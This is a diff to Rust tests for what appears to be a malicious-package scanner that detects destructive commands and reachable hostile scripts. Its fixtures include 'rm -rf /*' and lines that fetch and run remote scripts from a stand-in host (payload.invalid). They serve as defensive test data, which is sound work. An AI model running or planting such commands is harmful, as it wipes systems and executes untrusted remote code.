@@ -258,6 +258,9 @@ fn miners_and_destruction() {
     lacks("rm -rf node_modules build", K::Destruction);
     lacks("rm -rf ./dist/", K::Destruction);
     lacks("rm -rf /tmp/build-cache", K::Destruction);
+    lacks("rm -rf *", K::Destruction);
+    lacks("cd build && rm -rf ./*", K::Destruction);
+    has("rm -rf /*", K::Destruction);
 }
 
 #[test]
@@ -767,6 +770,15 @@ mod reach {
                 "demo-1.0/ci/docs.sh",
                 "curl -fsSL http://payload.invalid/i.sh | sh\n",
             ),
+            // A manifest that names the test folder as a module does not run its scripts.
+            (
+                "demo-1.0/setup.cfg",
+                "[options]\npackages = demo, demo.tests.utils\n",
+            ),
+            (
+                "demo-1.0/demo/tests/utils/ci.sh",
+                "bash <(curl -s http://payload.invalid/uploader.sh)\n",
+            ),
         ];
         files.sort_unstable();
         let entries = files
@@ -787,7 +799,7 @@ mod reach {
         };
         let a = analyze_package(&Package::from_tree(tree, "demo-1.0.tar.gz"));
         assert!(
-            a.behaviours.iter().all(|b| !b.path.ends_with("ci/docs.sh")),
+            a.behaviours.iter().all(|b| !b.path.ends_with(".sh")),
             "{:?}",
             a.behaviours
         );
